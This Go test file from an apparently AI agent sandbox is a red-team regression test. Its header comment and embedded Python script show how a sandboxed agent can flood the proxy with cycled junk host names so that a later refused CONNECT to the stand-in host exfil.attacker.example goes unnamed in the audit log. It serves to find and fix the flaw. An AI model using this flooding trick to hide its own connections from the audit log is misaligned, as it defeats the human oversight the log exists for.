//go:build linux

package supervise

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/agentbox-dev/agentbox/audit"
)

// TestRedteam21NameBudgetCycledJunk: an agent hides a refused connection's
// host from the audit log with 400 junk host names sent in turn, not the
// 10,000 distinct targets the README says it takes.
//
// netLimiter.admit (supervise/netlimit.go) charges the run's name budget
// (netNamedTargets, 10,000 for each event type) once for every target a
// summary names, and a summary's set of names (netSummary.named) is its
// own: a new summary begins at each flush (a second) and whenever one
// reaches netSummaryTargets (200) names. So 400 junk names sent in turn
// are named again in every new summary and charge the budget again (201
// would do, but the proxy records decisions slightly out of order), and
// after netBurst + 12,000 refused CONNECTs (2.3 s from a sandboxed python
// here, against the README's "unless it names 10,000
// distinct targets of that type first") every later decision of the type
// is "unnamed": the CONNECT to exfil.attacker.example is counted but its
// host is named nowhere. The log itself lists the same 400 junk names
// 25 times over. (10,000 distinct junk names would cost no more time: the
// names are free; the run-wide cutoff is what a couple of seconds of junk
// buys, whichever way it is counted.)
//
// The control: the same connection after a short flood is named.
//
// Severity: low-medium (audit evasion of where a refused connection went,
// after a couple of seconds of junk; shown for network_deny).
// Affects both root and unprivileged callers.
//
// Suggested fix: charge the run's budget once per distinct target (a
// run-wide set, itself bounded), so a name the run already named costs
// nothing; and rather than a run-wide cutoff, bound names per summary
// window so a late connection's host is still named.
//
// Fixed: a target is charged to the run's bound once, whatever summaries
// name it again (netLimiter.admit).
func TestRedteam21NameBudgetCycledJunk(t *testing.T) {
	const hidden = "exfil.attacker.example"
	run := func(t *testing.T, flood int) (named bool, counted int, distinct int, took time.Duration) {
		f := newFixture(t)
		m := f.manifest("name: cycle21\npermissions: {network: {allow: [api.example.com], deny: [\"*\"]}}\n" +
			"audit: {log_level: minimal}\n")
		script := fmt.Sprintf(`import os, socket
h, p = os.environ["HTTPS_PROXY"][len("http://"):].rsplit(":", 1)
def connect(host):
    s = socket.create_connection((h, int(p)))
    s.sendall(b"CONNECT %%s:443 HTTP/1.1\r\n\r\n" %% host.encode())
    s.recv(200)
    s.close()
for i in range(%d):
    connect("j%%d.junk.example" %% (i %% 400))
connect(%q)
print("done")`, flood, hidden)
		start := time.Now()
		r := f.start(m, python, "-c", script)
		res := r.wait(t, 300*time.Second)
		took = time.Since(start)
		if res.ExitCode != 0 || !strings.Contains(r.stdout.String(), "done") {
			t.Fatalf("exit %d output %q", res.ExitCode, r.stdout.String())
		}
		names := map[string]bool{}
		for _, e := range f.events(res.AuditLog, res.ID) {
			if e.EventType != audit.NetworkDeny {
				continue
			}
			counted++
			if c, ok := e.Details["summarized"]; ok {
				var n int
				fmt.Sscan(fmt.Sprint(c), &n)
				counted += n - 1
			}
			for _, n := range strings.Fields(e.Resource) {
				if !strings.Contains(n, hidden) {
					names[n] = true
				}
			}
			if strings.Contains(e.Resource, hidden) || strings.Contains(fmt.Sprint(e.Details), hidden) {
				t.Logf("hidden in: rule %q reason %q details %.300v", e.Rule, e.Reason, e.Details)
				named = true
			}
		}
		return named, counted, len(names), took
	}
	t.Run("control", func(t *testing.T) {
		named, counted, _, _ := run(t, netBurst+300)
		if !named || counted != netBurst+301 {
			t.Fatalf("short flood: %s named %v, %d counted; want true, %d", hidden, named, counted, netBurst+301)
		}
	})
	t.Run("attack", func(t *testing.T) {
		flood := netBurst + netNamedTargets + 2000
		named, counted, distinct, took := run(t, flood)
		t.Logf("%d refused CONNECTs to %d distinct junk hosts, then %s, in %v; %d counted", flood, distinct, hidden, took.Round(time.Millisecond), counted)
		if counted != flood+1 {
			t.Errorf("%d decisions counted, want %d", counted, flood+1)
		}
		if !named {
			t.Errorf("after %d refused CONNECTs to only %d distinct junk hosts (%v), the refused CONNECT to %s is named nowhere in the audit log", flood, distinct, took.Round(time.Millisecond), hidden)
		}
	})
}
